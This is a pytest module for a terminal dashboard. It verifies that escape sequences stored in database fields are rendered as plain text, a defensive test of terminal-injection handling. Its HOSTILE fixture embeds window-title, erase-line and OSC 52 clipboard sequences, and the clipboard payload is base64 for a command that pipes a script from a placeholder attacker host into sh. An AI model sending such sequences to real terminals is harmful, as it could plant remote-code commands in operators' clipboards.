"""Text from outside reaches the operator's terminal as text, never as escape sequences.

The reviewer's attack: a PostgreSQL login event trigger answered every probe with a message
holding OSC 0 (window title), OSC 52 (clipboard) and CSI erase-line; the probe's reason was
stored, and opening the pair in a ``--read-only`` dashboard retitled the terminal and set its
clipboard. Here the same text is stored as a probe's reason, a delivery's error and a drill's
reasons, and comes back as a node's doctor problem; the real app renders each screen with a
pilot, and no Segment it would write to the terminal holds a control character.
"""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path
from typing import Any

from textual.message import Message

import meshtui.tui
from meshtui.controller.core import Controller
from meshtui.controller.read.doctor import DoctorReport, NodeCheck, Problem
from meshtui.tui.outside import Outside
from meshtui.tui.screens.hosts import DoctorDone, HostsScreen
from meshtui.tui.screens.pair import PairScreen
from tests.tui.builder import Built
from tests.tui.helpers import settle

GITEA = "database:app1/gitea->db1/postgres"
HOSTILE = (
    "maintenance\x1b]2;PWNED-TITLE\x07\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07"
    "\x1b[2K\x1b[1Gall good\x9b2J"
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _store_hostile_reasons(state: Path) -> None:
    with Controller.open(state) as ctl, ctl.inventory.transaction("test rows") as tx:
        tx.add_probes(
            [
                {
                    "pair": GITEA,
                    "at": "2099-01-01T00:00:00+00:00",
                    "generation": 1,
                    "verdict": "unknown",
                    "reason": HOSTILE,
                    "latency_ms": 1.0,
                    "used_password": 1,
                    "loopback": 0,
                    "client_addr": "10.213.0.3",
                    "control": None,
                    "withdrawn": 0,
                }
            ]
        )
        tx.put_deliveries(
            [
                {
                    "pair": GITEA,
                    "end": "consumer",
                    "generation": None,
                    "digest": None,
                    "since": None,
                    "attempted_at": "2099-01-01T00:00:00+00:00",
                    "error": HOSTILE,
                }
            ]
        )
        step = {"name": "old after", "expected": "refused", "verdict": "accepted"}
        evidence = {
            "pair": GITEA,
            "ok": False,
            "steps": [step | {"latency_ms": 1.0, "reason": HOSTILE}],
            "window_ms": 1.0,
            "rotation": None,
            "reason": HOSTILE,
        }
        tx.add_drill(
            {
                "pair": GITEA,
                "at": "2099-01-01T00:00:00+00:00",
                "rotation": None,
                "ok": 0,
                "window_ms": 1.0,
                "evidence": json.dumps(evidence),
            }
        )


def _terminal_text(app: Any) -> tuple[list[str], str]:
    """Every Segment the screen would write, as (those with a control character, all text)."""
    bad, seen = [], []
    for strip in app.screen._compositor.render_strips():
        for segment in strip:
            seen.append(segment.text)
            if CONTROL.search(segment.text):
                bad.append(repr(segment.text))
    return bad, "".join(seen)


async def test_the_pair_screen_shows_stored_escape_sequences_as_text(
    make_app: Any, built: Built
) -> None:
    _store_hostile_reasons(built.state)
    app = make_app(read_only=True)
    async with app.run_test(size=(240, 80)) as pilot:
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, PairScreen) and app.screen.pair == GITEA
        assert app.screen.detail is not None and app.screen.detail.drills
        bad, text = _terminal_text(app)
    assert not bad, "escape sequences reach the terminal:\n" + "\n".join(bad)
    assert "\\x1b]52;c;" in text  # the reason is there, shown as text


async def test_the_doctors_problems_are_shown_as_text(make_app: Any) -> None:
    report = DoctorReport(
        problems=[Problem("app1", "reach", HOSTILE, HOSTILE, HOSTILE)],
        nodes=[NodeCheck("app1", answered=False)],
    )
    app = make_app(read_only=True, screen="hosts")
    async with app.run_test(size=(240, 60)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, HostsScreen)
        app.screen.post_message(DoctorDone(report))
        await settle(pilot)
        bad, text = _terminal_text(app)
    assert not bad, "escape sequences reach the terminal:\n" + "\n".join(bad)
    assert "\\x1b]2;PWNED" in text


def test_every_message_of_the_dashboard_is_made_safe() -> None:
    """A worker's message is the one way data reaches a widget: each class is an Outside.

    (A widget's own events, in ``widgets/``, carry the operator's keys and typing.)
    """
    package = Path(meshtui.tui.__file__).parent
    found = []
    for path in sorted(package.rglob("*.py")):
        if path.parent.name == "widgets" or path.name == "outside.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                bases = {
                    b.attr if isinstance(b, ast.Attribute) else getattr(b, "id", "")
                    for b in node.bases
                }
                if "Message" in bases:
                    found.append(f"{path.name}: {node.name}")
    assert not found, "derive these from meshtui.tui.outside.Outside:\n" + "\n".join(found)
    assert issubclass(Outside, Message)


def _rows(count: int) -> list[Any]:
    from meshtui.model import PairStatus, State

    return [
        PairStatus(
            f"{GITEA}{i}",
            "database",
            "app1/gitea",
            "db1/postgres",
            f"gitea_{i}",
            2,
            2,
            2,
            False,
            State.WORKING,
            "logged in from 10.0.0.3",
            None,
            None,
            "/srv/f",
            "2026-01-01T00:00:00+00:00",
            False,
            2.5,
        )  # fmt: skip
        for i in range(count)
    ]


def test_a_long_table_of_rows_is_still_made_safe_in_every_field() -> None:
    """A load's thousands of status rows are checked as columns in bulk (outside.py's fast
    path); a control character in any string field of any row, ASCII or C1, in a field that
    is usually None too, is still shown as text, and only that row is rebuilt."""
    from meshtui.tui.outside import safe

    clean = _rows(500)
    assert safe(clean) is clean
    for index, field, hostile in [
        (499, "reason", HOSTILE),
        (0, "pair", "x\x1b[2Ky"),
        (250, "probed_at", "2026\x9b2J"),  # C1, not ASCII: the pattern's path
        (7, "rotated_at", "tab\tok\x07"),
        (300, "kind", "é\x1b]52;c;eA==\x07"),
    ]:
        rows = _rows(500)
        setattr(rows[index], field, hostile)
        out = safe(rows)
        assert out is not rows
        assert not CONTROL.search(getattr(out[index], field)), (field, getattr(out[index], field))
        assert "\\x" in getattr(out[index], field)
        assert all(a is b for i, (a, b) in enumerate(zip(out, rows, strict=True)) if i != index)
    mixed: list[Any] = [*_rows(100), ["inner\x1b[2K"]]  # not one dataclass type: walked
    assert not CONTROL.search(safe(mixed)[-1][0])


def test_a_loads_display_rows_are_still_made_safe_deep_inside() -> None:
    """The message a load posts holds a dict of 10,000 display rows, each with its cells (a
    tuple) and its status (a dataclass inside); checked in bulk as columns, a control
    character in a nested status field, a cell or a key is still shown as text."""
    from datetime import UTC, datetime

    from meshtui.tui.outside import safe
    from meshtui.tui.pairs import PairModel

    clean = PairModel.build(_rows(300), datetime(2026, 1, 2, tzinfo=UTC))
    assert safe(clean) is clean
    rows = _rows(300)
    rows[150].reason = HOSTILE
    rows[299].pair = "z\x1b]2;PWNED\x07"
    out = safe(PairModel.build(rows, datetime(2026, 1, 2, tzinfo=UTC)))
    for key, row in out.rows.items():
        assert not CONTROL.search(key)
        assert not CONTROL.search(row.status.reason) and not CONTROL.search(row.status.pair)
        assert not any(CONTROL.search(cell) for cell in row.cells), row.cells
    assert sum("\\x1b" in row.status.reason for row in out.rows.values()) == 1
